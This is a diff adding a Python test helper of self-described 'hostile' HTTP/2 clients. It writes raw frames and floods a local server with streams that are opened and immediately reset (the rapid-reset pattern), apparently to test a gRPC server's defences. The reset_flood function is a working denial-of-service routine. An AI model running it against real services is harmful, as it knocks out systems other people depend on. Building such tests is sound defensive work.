@@ -1,0 +1,81 @@
+"""Hostile HTTP/2 clients that write frames without a library's checks."""
+
+import asyncio
+import struct
+from contextlib import asynccontextmanager
+
+from hpack import Encoder
+from hpack.struct import NeverIndexedHeaderTuple
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+CANCEL = struct.pack(">I", 8)
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def header_block(path, *headers, authority="front", scheme="http"):
+    """A block without references to the dynamic table, so that it may be repeated on any stream."""
+    fields = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", authority)]
+    grpc = [("content-type", "application/grpc"), ("te", "trailers")]
+    return Encoder().encode([NeverIndexedHeaderTuple(*each) for each in [*fields, *grpc, *headers]])
+
+
+class RawConnection:
+    """One connection whose input is discarded."""
+
+    def __init__(self, reader, writer):
+        self.writer = writer
+        self.next_stream = 1
+        self.closed = asyncio.create_task(self._discard(reader))
+
+    async def _discard(self, reader):
+        try:
+            while await reader.read(2**16):
+                pass
+        except ConnectionError:
+            pass
+
+    async def send(self, frames):
+        """Return False if the peer has closed the connection."""
+        try:
+            self.writer.write(frames)
+            await self.writer.drain()
+        except ConnectionError:
+            return False
+        return not self.closed.done()
+
+    def resets(self, count, block):
+        """The frames of `count` calls that are reset at once."""
+        frames = bytearray()
+        for _ in range(count):
+            frames += frame(HEADERS, END_HEADERS, self.next_stream, block)
+            frames += frame(RST_STREAM, 0, self.next_stream, CANCEL)
+            self.next_stream += 2
+        return bytes(frames)
+
+
+@asynccontextmanager
+async def raw_connection(port):
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    writer.write(PREFACE + frame(SETTINGS))
+    connection = RawConnection(reader, writer)
+    try:
+        yield connection
+    finally:
+        connection.closed.cancel()
+        writer.close()
+
+
+async def reset_flood(port, block, *, resets, batch=500):
+    """Open and reset `resets` calls, on a new connection as often as the peer closes one."""
+    left = resets
+    while left > 0:
+        async with raw_connection(port) as connection:
+            is_open = True
+            while is_open and left > 0:
+                is_open = await connection.send(connection.resets(min(batch, left), block))
+                left -= batch
